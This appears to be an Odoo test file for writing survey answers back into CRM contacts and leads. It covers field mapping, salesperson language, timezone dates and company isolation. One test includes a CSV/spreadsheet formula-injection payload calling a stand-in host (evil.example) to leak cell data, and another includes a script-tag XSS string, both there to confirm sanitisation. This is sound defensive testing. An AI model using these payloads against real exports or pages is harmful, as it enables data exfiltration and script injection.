from datetime import date, datetime

from odoo.tests import new_test_user, tagged

from .common import CustomerSurveyCase


@tagged("post_install", "-at_install")
class TestAnswerTargets(CustomerSurveyCase):
    def _map(self, code, **values):
        question = self.question(self.quiet_survey, code)
        question.write({"target_attribute_id": False, **values})
        return question

    def test_contact_field_is_filled_once(self):
        field = self.env["ir.model.fields"]._get("res.partner", "function")
        self._map("competitor", target_kind="partner", target_partner_field_id=field.id)
        invitation = self.invite()
        self.answer(invitation, {"competitor": "Thợ mộc"})
        invitation._write_back()
        self.assertEqual(self.customer.function, "Thợ mộc")
        fact = self.env["crm.profile.fact"].search([("partner_id", "=", self.customer.id)])
        self.assertEqual(set(fact.mapped("source")), {"survey"}, "what mirrors the field comes from the answer")
        self.assertIn("Thợ mộc", fact.mapped("value_text"))
        self.customer.function = "Giám đốc"
        invitation._write_back()
        self.assertEqual(self.customer.function, "Giám đốc")

    def test_formulas_stay_out_of_contacts_and_leads(self):
        """Odoo's own export writes what begins with a sign as a formula: it does not begin with one."""
        fields = self.env["ir.model.fields"]
        attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        city, function = fields._get("crm.lead", "city"), fields._get("res.partner", "function")
        self._map("competitor", target_kind="partner", target_partner_field_id=function.id)
        self._map("liked", target_kind="lead", target_lead_field_id=city.id)
        self._map("disliked", target_kind="referral")
        lead = self.env["crm.lead"].create({"name": "L", "partner_id": self.customer.id, "company_id": self.company.id})
        lead.city = self.customer.function = False
        invitation = self.invite()
        self.answer(invitation, {"competitor": attack, "liked": "@SUM(1)", "disliked": "=Hoa 0912 345 678"})
        invitation._write_back()
        self.assertEqual(invitation.writeback_state, "done", invitation.writeback_error)
        self.assertEqual(self.customer.function, attack[1:])
        self.assertEqual(lead.city, "SUM(1)")
        referred = self.env["crm.lead"].search([("referred_by_id", "=", self.customer.id)])
        self.assertEqual((referred.contact_name, referred.name[:4]), ("Hoa", "Hoa,"))

    def test_lead_field_is_escaped(self):
        field = self.env["ir.model.fields"]._get("crm.lead", "description")
        lead = self.env["crm.lead"].create({"name": "L", "partner_id": self.customer.id, "company_id": self.company.id})
        self._map("liked", target_kind="lead", target_lead_field_id=field.id)
        invitation = self.invite()
        self.answer(invitation, {"liked": "<script>alert(1)</script>"})
        invitation._write_back()
        self.assertEqual(invitation.writeback_state, "done", invitation.writeback_error)
        self.assertNotIn("<script>", lead.description)
        self.assertIn("alert(1)", lead.description)

    def test_lead_is_written_in_the_language_of_its_salesperson(self):
        """Whatever language the job runs in; recorded again after the lead changed hands, it stands there once."""
        field = self.env["ir.model.fields"]._get("crm.lead", "description")
        seller = new_test_user(self.env, "target_seller", groups="sales_team.group_sale_salesman", lang="vi_VN")
        lead = self.env["crm.lead"].create(
            {"name": "L", "partner_id": self.customer.id, "company_id": self.company.id, "user_id": seller.id}
        )
        question = self._map("liked", target_kind="lead", target_lead_field_id=field.id)
        question.with_context(lang="vi_VN").title = "Anh/chị thích điều gì?"
        question.with_context(lang="en_US").title = "What did you like?"
        invitation = self.invite()
        self.answer(invitation, {"liked": "Tay nghề"})
        invitation.with_context(lang="en_US")._write_back()
        once = lead.description
        self.assertIn("Anh/chị thích điều gì?", once)
        self.assertNotIn("What did you like?", once)
        seller.lang = "en_US"
        invitation._write_back()
        self.assertEqual(lead.description, once)
        # Nobody's lead: the company's language.
        lead.write({"user_id": False, "description": False})
        self.company.partner_id.lang = "vi_VN"
        invitation.with_context(lang="en_US")._write_back()
        self.assertEqual(lead.description, once)

    def test_lead_of_another_company_is_left_alone(self):
        field = self.env["ir.model.fields"]._get("crm.lead", "description")
        lead = self.env["crm.lead"].create(
            {"name": "L", "partner_id": self.customer.id, "company_id": self.env.ref("base.main_company").id}
        )
        self._map("liked", target_kind="lead", target_lead_field_id=field.id)
        invitation = self.invite()
        self.answer(invitation, {"liked": "hello"})
        invitation._write_back()
        self.assertFalse(lead.description)

    def test_zero_is_recorded(self):
        invitation = self.invite()
        self.answer(invitation, {"recommend": "0"})
        invitation._write_back()
        self.assertEqual(self.customer._profile_value("recommend_score"), 0)

    def test_the_day_is_the_companys(self):
        """Half past six in the morning in Ho Chi Minh City is still yesterday by UTC."""
        invitation = self.invite()
        self.answer(invitation, {"recommend": "7"})
        invitation.done_on = datetime(2026, 3, 3, 23, 30)
        invitation._write_back()
        fact = self.env["crm.profile.fact"].search([("partner_id", "=", self.customer.id)])
        self.assertEqual(fact.collected_on, date(2026, 3, 4))

    def test_skipped_gives_no_fact(self):
        invitation = self.invite()
        self.answer(invitation, {"liked": ""})
        invitation._write_back()
        self.assertFalse(self.env["crm.profile.fact"].search([("partner_id", "=", self.customer.id)]))
        self.assertEqual(invitation.writeback_state, "done")

    def test_survey_crm_makes_no_lead(self):
        Lead = self.env["crm.lead"]
        if "origin_survey_id" not in Lead._fields:
            self.skipTest("survey_crm is not installed: there is nothing to keep apart")
        self.label(self.quiet_survey, "reason", "natural").generate_lead = True
        count = Lead.search_count([])
        self.answer(self.invite(), {"reason": "natural"})
        self.assertEqual(Lead.search_count([]), count)
